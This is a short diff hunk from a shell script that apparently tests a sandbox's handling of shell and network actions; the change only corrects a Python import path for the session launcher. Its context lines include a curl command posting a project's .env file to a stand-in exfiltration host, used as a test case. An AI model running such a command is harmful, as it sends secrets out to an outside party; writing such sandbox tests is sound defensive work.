@@ -141,7 +141,7 @@ explain shell_exec "curl -sS --max-time 3 --data-binary @.env https://exfil.exam
 explain network "exfil.example:443"
 explain network "10.203.77.2:80"
 
-if ! "$VPY" -c 'import sandbox.launch.session' 2>/dev/null; then
+if ! "$VPY" -c 'import sandbox.session' 2>/dev/null; then
 	incomplete "the launcher (sandbox/launch/session.py)"
 fi
 
